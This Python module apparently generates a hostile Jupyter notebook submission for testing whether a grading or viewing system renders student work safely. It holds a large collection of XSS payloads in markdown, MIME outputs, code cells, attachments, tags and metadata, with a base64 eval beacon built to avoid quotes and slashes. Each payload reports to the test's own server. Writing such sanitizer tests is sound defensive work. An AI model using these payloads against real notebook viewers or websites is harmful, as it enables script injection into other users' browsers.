"""A submission that tries to run scripts, and to be noticed, in whatever browser shows it.

Each attack asks a server of the test for a page that bears the attack's name.
"""

import base64
import io

import nbformat
import pandas
from matplotlib import pyplot
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from PIL import Image

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
WRITTEN = "why"  # the grade_id of the question that is answered in words

# JS: a script without quotes of either kind. URL: an address that must not be asked for.
MARKDOWN = {
    "script": "<script>JS</script>",
    "handler": 'text <img src=x onerror="JS"> text',
    "block-handler": '<details open ontoggle="JS"><summary>x</summary></details>',
    "upper-case": "<IMG SRC=x OnErRoR=JS>",
    "svg-onload": '<svg onload="JS"></svg>',
    "svg-script": "<svg><script>JS</script></svg>",
    "foreign-object": '<svg><foreignObject><img src=x onerror="JS"></foreignObject></svg>',
    "svg-animate": '<svg><a><animate attributeName=href values="javascript:JS"/><text>x</text></a></svg>',
    "svg-use": "<svg><use href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='JS'/>#x\"/></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
    "srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>JS</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:JS"></iframe>',
    "object": '<object data="data:text/html,<script>JS</script>"></object>',
    "embed": '<embed src="data:text/html,<script>JS</script>">',
    "form": '<form action="javascript:JS"><button>x</button></form>',
    "button": '<button formaction="javascript:JS">x</button>',
    "link": "[x](javascript:JS)",
    "entity-link": '<a href="&#106;avascript:JS">x</a>',
    "reference": "[x][r]\n\n[r]: javascript:JS",
    "autolink": "<javascript:JS>",
    "image": '![x](x" onerror="JS)',
    "image-title": '![x](x "y" onerror="JS")',
    "language": '```x"><img/src=x/onerror=JS>\ncode\n```',
    "mermaid": "```mermaid\n</pre><img src=x onerror=JS>\n```",
    "formula": r"$\href{javascript:JS}{x}$ $$\style{x}{<img src=x onerror=JS>}$$",
    "environment": r"\begin{equation}<img src=x onerror=JS>\end{equation}",
    "heading": "# <img src=x onerror=JS>",
    "comment": "<!--> <img src=x onerror=JS> -->",
    "file-script": "<script src=attack.js></script>",
    "style": "<style>body { background: url(URL) }</style>",
    "style-attribute": '<p style="background: url(URL)">x</p>',
    "style-sheet": '<link rel="stylesheet" href="URL">',
    "list-style": '<ul style="list-style: square url(URL)"><li>x</li></ul>',
    "list-style-image": "<ul style=\"list-style: image-set('/logout' 1x)\"><li>x</li></ul>",
    "picture": "![x](URL)",
    "base": '<base href="URL/"> <img src="x.png">',
    "refresh": '<meta http-equiv="refresh" content="1;url=URL">',
}
OUTPUTS = {
    "html": {"text/html": "<script>JS</script>"},
    "html-handler": {"text/html": "<table><tr><td><img src=x onerror=JS></table>"},
    "html-unclosed": {"text/html": "</div></div></div><img src=x onerror=JS><!-- "},
    "javascript": {"application/javascript": "JS"},
    "svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><script>JS</script></svg>"},
    "svg-escape": {"image/svg+xml": '"><img src=x onerror=JS>'},
    "markdown": {"text/markdown": "*x* <img src=x onerror=JS>"},
    "latex": {"text/latex": r"$x$ <img src=x onerror=JS> $\href{javascript:JS}{x}$"},
    "png": {"image/png": '"><img src=x onerror=JS>'},
    "jpeg": {"image/jpeg": '" onerror="JS'},
    "plain": {"text/plain": "<img src=x onerror=JS>"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS</script>"}},
    "mermaid": {"text/vnd.mermaid": "</pre><img src=x onerror=JS>"},
    "odd-type": {"x/<img src=x onerror=JS>": "<img src=x onerror=JS>"},
}  # fmt: skip
OUTPUTS = {f"output-{name}": data for name, data in OUTPUTS.items()}
CODE = {
    "isolated": "display({'text/html': '<script>JS</script>'}, raw=True, metadata={'text/html': {'isolated': True}})",
    "size": f"display({{'image/png': '{PIXEL}'}}, raw=True, metadata={{'image/png': {{'width': '1 onload=JS', 'alt': '\" onload=\"JS'}}}})",
    "print": "print('<img src=x onerror=JS>')",
    "traceback": "raise ValueError('<img src=x onerror=JS>')",
    "source": "'''</pre><img src=x onerror=JS>'''",
}
WORDS = "Because it is **right**: $x^2$, see [the book](https://example.org/)."


def code_for(address: str, name: str) -> str:
    """A script that asks ``address`` for a page called ``name``, without quotes or slashes."""
    plain = f"void(new Image().src='{address}{name}')"
    while "/" in (packed := base64.b64encode(plain.encode()).decode()):
        plain = " " + plain
    return f"eval(atob(`{packed}`))"


def student_name(address: str) -> str:
    """A name that breaks out of a string in a script, and is an element of HTML."""
    code = code_for(address, "name")
    return f'";{code};"<img src=x onerror={code}>'


def shown(data: dict) -> str:
    """Code that shows a bundle of MIME types."""
    return f"display({data!r}, raw=True)"


def pixels(packed: str) -> list:
    """The size of a picture that is given in base64, and its pixels."""
    with Image.open(io.BytesIO(base64.b64decode(packed))) as picture:
        return [picture.size, *picture.convert("RGBA").get_flattened_data()]


def honest_outputs() -> list[dict]:
    """What students show: a table, a picture, a drawing, a plot that needs scripts."""
    figure, axes = pyplot.subplots()
    axes.plot([1, 2], [3, 1])
    figure.savefig(drawing := io.StringIO(), format="svg")
    pyplot.close(figure)
    return [
        {"text/html": pandas.DataFrame({"x": [1, 2]})._repr_html_()},
        {"image/png": PIXEL},
        {"image/svg+xml": drawing.getvalue(), "text/plain": "<Figure>"},
        {"text/html": "<div id='plot'></div><script>draw()</script>", "text/plain": "a plot"},
    ]


def submission(released: NotebookNode, address: str) -> NotebookNode:
    """The released notebook, with all attacks in it; ``address`` is where they report to."""

    def armed(name: str, text: str) -> str:
        return text.replace("JS", code_for(address, name)).replace("URL", f"{address}{name}")

    notebook = nbformat.from_dict(released)
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == WRITTEN:
            cell.source = WORDS + armed("answer", "\n\n<script>JS</script><img src=x onerror=JS>")
    cells = [new_markdown_cell(armed(name, text)) for name, text in MARKDOWN.items()]
    for name, data in OUTPUTS.items():
        cells.append(new_code_cell(armed(name, shown(data))))
    cells += [new_code_cell(armed(name, text)) for name, text in CODE.items()]
    raw = armed("raw", "<script>JS</script><img src=x onerror=JS>")
    cells.append(new_raw_cell(raw, metadata={"raw_mimetype": "text/html"}))
    for kind in ("image/svg+xml", "text/html"):
        text = armed(
            "attachment", "<svg xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>"
        )
        attached = {
            "a": {kind: base64.b64encode(text.encode()).decode()},
            "b": {'x" onerror="JS': "x"},
        }
        cells.append(
            new_markdown_cell("![a](attachment:a) ![b](attachment:b)", attachments=attached)
        )
    cells.append(new_markdown_cell("![p](attachment:p)", attachments={"p": {"image/png": PIXEL}}))
    cells += [new_code_cell(shown(data)) for data in honest_outputs()]
    for cell in cells:
        cell.metadata.tags = [armed("tag", "<img src=x onerror=JS>")]
    notebook.cells += cells
    html = armed("metadata", "</title></style></script><img src=x onerror=JS>")
    notebook.metadata.update(title=html, authors=[{"name": html}], widgets={
        "application/vnd.jupyter.widget-state+json": {"state": {}, "x": html}})  # fmt: skip
    return notebook
